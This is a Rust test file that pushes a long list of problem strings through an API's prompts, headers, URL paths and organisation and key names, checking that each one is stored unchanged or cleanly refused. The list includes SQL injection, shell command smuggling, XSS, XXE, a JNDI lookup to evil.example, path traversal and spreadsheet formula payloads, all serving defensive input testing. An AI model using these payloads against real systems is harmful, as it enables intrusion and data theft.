//! Strings that break programs, sent through everything that takes text: nothing breaks, and what is kept comes back as
//! it was sent.

use crate::fixture::{Answer, Api};
use serde_json::{Value, json};
use std::fmt::Write as _;
use vydra_core::credits::Credits;
use vydra_core::error_code::ErrorCode;
use vydra_core::job::Mode;
use vydra_engine::{NewKey, NewOrganizationRequest};

fn strings() -> Vec<String> {
    let plain = [
        // Words that programs take for something else.
        "undefined",
        "null",
        "NULL",
        "nil",
        "None",
        "true",
        "false",
        "NaN",
        "Infinity",
        "-",
        "\\",
        "\\\\",
        "constructor",
        "__proto__",
        "hasOwnProperty",
        "toString",
        "then",
        "length",
        "CON",
        "PRN",
        "AUX",
        "NUL",
        "COM1",
        "LPT1",
        "con.png",
        ".",
        "..",
        "...",
        "~",
        "/",
        "//",
        "*",
        "?",
        "index.html",
        ".htaccess",
        "admin",
        // Numbers that are text.
        "0",
        "1",
        "-1",
        "1.00",
        "$1.00",
        "1/2",
        "1E2",
        "1E+02",
        "0x0",
        "0xffffffff",
        "0b1",
        "0o17",
        "1_000",
        "1,000.00",
        "1 000,00",
        "01000",
        "٠١٢",
        "１２３",
        "²³",
        "½",
        "999999999999999999999999999",
        "-0",
        "+1",
        "1.7976931348623157e309",
        "2147483648",
        "9223372036854775808",
        "--1",
        "0.1.2",
        "INF",
        "1#QNAN",
        // Other alphabets, directions, and letters that nobody sees.
        "Ω≈ç√∫˜µ≤≥÷",
        "田中さんにあげて下さい",
        "사회과학원",
        "Здравствуйте",
        "שלום עולם",
        "مرحبا بالعالم",
        "नमस्ते",
        "สวัสดี",
        "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",
        "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜",
        "ｆｕｌｌｗｉｄｔｈ",
        "ＳＣＲＩＰＴ",
        "ﷺ",
        "ﬀ ﬁ ﬂ",
        "İıŞş",
        "ß ẞ ſ",
        "ǅ",
        "Å Å Å",
        "\u{200b}",
        "\u{200b}a\u{200c}b\u{200d}c",
        "\u{2060}",
        "\u{feff}",
        "\u{202e}gnp.exe",
        "\u{202a}a\u{202c}",
        "\u{2066}test\u{2067}",
        "\u{200e}\u{200f}",
        "\u{ad}",
        "\u{34f}",
        "\u{180e}",
        "\u{115f}",
        "\u{2028}",
        "\u{2029}",
        "\u{85}",
        "\u{a0}",
        "\u{3000}",
        "\u{fffd}",
        "\u{fffe}",
        "\u{ffff}",
        "\u{10ffff}",
        "\u{e000}",
        "\u{e0001}",
        "Z̸̡̛a̴͎͘l̷̰̈g̵̱̀o̶̰͝",
        "e\u{301}",
        "\u{301}",
        "\u{e9}",
        "각",
        "\u{1112}\u{1161}\u{11ab}",
        "ก็็็็็็็็็็",
        // Pictures of one and of many parts.
        "😀",
        "👩‍👩‍👧‍👦",
        "🏳️‍🌈",
        "🇺🇳🇱🇮",
        "🇺",
        "👍🏿",
        "❤️",
        "❤",
        "1️⃣",
        "🧑🏽‍🚀🧑🏿‍🚒",
        "🐵🙈🙉🙊",
        "¯\\_(ツ)_/¯",
        "(╯°□°）╯︵ ┻━┻",
        // What ends a line, or a text.
        "a\nb",
        "a\r\nb",
        "a\rb",
        "\n",
        "\r\n\r\n",
        "a\tb",
        "\t",
        " ",
        "  ",
        " a ",
        "a\0b",
        "\0",
        "\u{1}\u{2}\u{1f}",
        "\u{7f}",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{8}\u{8}",
        "\u{c}",
        "\u{b}",
        "%00",
        "%0d%0aSet-Cookie: a=b",
        "a\r\nX-Evil: 1",
        "\\u0000",
        "\\ud83d",
        "\u{1f}\u{8b}",
        // What a database, a shell, a browser or a template would run.
        "'",
        "''",
        "\"",
        "`",
        "'; DROP TABLE jobs; --",
        "1' OR '1'='1",
        "' UNION SELECT * FROM api_keys --",
        "%' --",
        "\\'; --",
        "1; SELECT pg_sleep(10)",
        "x') ON CONFLICT DO NOTHING; --",
        "?1",
        ":a",
        "@a",
        "$1",
        "_",
        "%",
        "$(touch /tmp/x)",
        "`id`",
        "; ls -la",
        "| cat /etc/passwd",
        "&& reboot",
        "$HOME",
        "${IFS}",
        "%PATH%",
        "-rf",
        "--help",
        "> /dev/null",
        "~root",
        "!!",
        "{a,b}",
        "() { :;}; echo",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "<svg/onload=alert(1)>",
        "&lt;b&gt;",
        "&#0;",
        "]]>",
        "<!--",
        "<![CDATA[x]]>",
        "</textarea>",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% debug %}",
        "${jndi:ldap://evil.example/a}",
        "{0}",
        "{}",
        "%s%s%s%n",
        "%d",
        "%1$s",
        "%@",
        "{{constructor.constructor('return 1')()}}",
        "../../etc/passwd",
        "..\\..\\windows",
        "file:///etc/passwd",
        "http://169.254.169.254/",
        "//evil.example",
        "data:text/html,x",
        "asset:ast_x",
        "\\\\server\\share",
        "C:\\x",
        "=1+1",
        "+1+1",
        "@SUM(1)",
        "-2+3",
        "=cmd|' /C calc'!A0",
        "*)(uid=*))(|(uid=*",
        "\" or \"\"=\"",
        "{\"$ne\": null}",
        "[object Object]",
        "{\"prompt\":\"p\"}",
        "]",
        "}",
        "--boundary",
        "GET / HTTP/1.1",
        "HTTP/1.1 400 Bad Request",
    ];
    let mut all: Vec<String> = plain.map(str::to_owned).into();
    all.push("a".repeat(10_000));
    all.push("\u{301}".repeat(5_000));
    all.push("😀".repeat(2_500));
    all.push("'".repeat(3_000));
    all.push("\0".repeat(1_000));
    // Every second letter of the first plane's beginning.
    all.push(
        (1_u32..0x500)
            .step_by(2)
            .filter_map(char::from_u32)
            .collect(),
    );
    all
}

fn coded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        // Writing to a String cannot fail.
        let _ = write!(out, "%{byte:02X}");
        out
    })
}

async fn rich() -> Api {
    let mut api = Api::idle().await;
    let org = api.org("rich", 1_000_000).await;
    api.key = api.key(&org, &["*"], Mode::Live).await;
    api
}

/// What was taken is there unchanged, and is taken back, so that the next one has room.
async fn kept(api: &Api, answer: &Answer, id: &str, field: &str, text: &str) {
    let body = answer.json();
    let id = body[id].as_str().unwrap();
    let job = api.get(&format!("jobs/{id}")).send().await.ok(200);
    assert_eq!(job["input"][field], text, "{field}");
    let cancelled = api.delete(&format!("jobs/{id}")).send().await.ok(200);
    assert_eq!(cancelled["input"][field], text, "{field}");
}

fn refused(answer: &Answer, text: &str) {
    assert_eq!(answer.status, 400, "{text:?}");
    answer.error("INVALID_INPUT");
}

#[tokio::test]
async fn prompts_and_texts_are_kept_as_they_are() {
    let api = rich().await;
    let strings = strings();
    assert!(strings.len() >= 200, "{}", strings.len());
    for text in &strings {
        for (path, field, most, mut input) in [
            ("models/gemini/generate", "prompt", 10_000, json!({})),
            ("models/elevenlabs/tts", "text", 5_000, json!({})),
            (
                "models/elevenlabs/tts",
                "voice_id",
                100,
                json!({"text": "p"}),
            ),
        ] {
            input[field] = json!(text);
            let call = api.post(path, &input).header("prefer", "respond-async");
            let answer = call.send().await;
            if text.chars().count() > most {
                refused(&answer, text);
                continue;
            }
            assert_eq!(answer.status, 202, "{path} {field} {text:?}");
            kept(&api, &answer, "jobId", field, text).await;
        }
    }
}

#[tokio::test]
async fn themes_and_workflows_are_kept_or_refused() {
    let api = rich().await;
    for text in &strings() {
        let body = json!({"workflow": "house-timelapse", "input": {"theme": text}});
        let answer = api.post("jobs", &body).send().await;
        if answer.status == 201 {
            kept(&api, &answer, "id", "theme", text).await;
        } else {
            refused(&answer, text);
        }
        let body = json!({"workflow": text, "input": {"prompt": "p"}});
        refused(&api.post("jobs", &body).send().await, text);
        let body = json!({"workflow": "generate_image", "input": {"prompt": "p", "model": text}});
        let answer = api.post("jobs", &body).send().await;
        assert!(
            [400, 404].contains(&answer.status.as_u16()),
            "{text:?}: {}",
            answer.status
        );
    }
    assert_eq!(
        api.get("jobs").send().await.ok(200)["pagination"]["limit"],
        20
    );
}

#[tokio::test]
async fn names_that_lead_nowhere_are_not_found_or_refused() {
    let api = rich().await;
    for text in &strings() {
        let coded = coded(text);
        // http takes no longer ones.
        if coded.len() > 60_000 {
            continue;
        }
        for (path, allowed) in [
            (format!("jobs?status={coded}"), &[400][..]),
            (format!("jobs?limit={coded}"), &[200, 400]),
            (format!("jobs?after={coded}"), &[400]),
            (format!("jobs?workflow={coded}"), &[200]),
            (format!("jobs?{coded}={coded}"), &[200]),
            (format!("models?provider={coded}"), &[200]),
            (format!("models?isActive={coded}"), &[200, 400]),
            (format!("jobs/{coded}"), &[404]),
            (format!("jobs/x?wait={coded}"), &[400, 404]),
            (format!("models/{coded}"), &[404]),
            (format!("/media/{coded}"), &[404]),
            (format!("/{coded}"), &[404]),
            (format!("/docs/errors/{coded}"), &[404]),
        ] {
            let answer = api.get(&path).send().await;
            let status = answer.status.as_u16();
            assert!(allowed.contains(&status), "{path}: {status}");
        }
        let call = api.post(&format!("models/{coded}"), &json!({"prompt": "p"}));
        call.send().await.error("MODEL_NOT_FOUND");
        api.delete(&format!("jobs/{coded}"))
            .send()
            .await
            .error("JOB_NOT_FOUND");
    }
}

#[tokio::test]
async fn headers_are_taken_or_passed_over() {
    let api = rich().await;
    for text in &strings() {
        // What no header can hold never arrives.
        if axum::http::HeaderValue::from_bytes(text.as_bytes()).is_err() {
            continue;
        }
        let bytes = text.as_bytes();
        let answer = api
            .get("organization")
            .raw_header("x-request-id", bytes)
            .send()
            .await;
        answer.ok(200);
        let id = answer.header("x-request-id").unwrap();
        assert!(id == text || id.starts_with("req_"), "{text:?}: {id}");
        let answer = api
            .get("organization")
            .raw_header("authorization", bytes)
            .send()
            .await;
        assert_eq!(answer.status, 401, "{text:?}");
        for name in [
            "idempotency-key",
            "prefer",
            "x-vydra-simulate",
            "accept",
            "cookie",
        ] {
            let call = api.post("models/gemini/generate", &json!({"prompt": "p"}));
            let call = call.header("prefer", "respond-async");
            let answer = call.raw_header(name, bytes).header("x-test", "1");
            let answer = if name == "prefer" {
                // Without the wish, the call would wait for a worker that is not there.
                api.post("models/gemini/generate", &json!({}))
                    .raw_header(name, bytes)
                    .send()
                    .await
            } else {
                answer.send().await
            };
            let status = answer.status.as_u16();
            assert!([202, 400].contains(&status), "{name}: {text:?}: {status}");
            if let Some(id) = answer.json()["jobId"].as_str() {
                api.delete(&format!("jobs/{id}")).send().await.ok(200);
            }
        }
    }
}

#[tokio::test]
async fn names_of_organizations_and_keys_are_kept_or_refused() {
    let api = rich().await;
    let is_invalid = |error: vydra_engine::Error| {
        assert_eq!(error.code(), ErrorCode::InvalidInput, "{error}");
    };
    for text in &strings() {
        let new = NewOrganizationRequest {
            name: text.clone(),
            plan: "free".to_owned(),
            credits: Credits::ZERO,
        };
        match api.engine.create_organization(new).await {
            Ok(organization) => {
                assert_eq!(organization.name, text.trim());
                let found = api.engine.find_organization(text.trim()).await.unwrap();
                assert_eq!(found.id, organization.id, "{text:?}");
                let key = api.key(&organization, &["*"], Mode::Live).await;
                let body = api.get("organization").key(&key).send().await.ok(200);
                assert_eq!(body["name"], Value::from(text.trim()));
            }
            Err(error) => is_invalid(error),
        }
        let new = NewKey {
            organization: api.org.id.clone(),
            name: text.clone(),
            scopes: vec!["*".to_owned()],
            expires_in_days: None,
            mode: Mode::Live,
        };
        match api.engine.create_key(new).await {
            Ok(created) => {
                assert_eq!(created.key.name, text.trim());
                let keys = api.engine.keys(&api.org.id).await.unwrap();
                let key = keys.iter().find(|key| key.id == created.key.id).unwrap();
                assert_eq!(key.name, text.trim());
            }
            Err(error) => is_invalid(error),
        }
    }
}
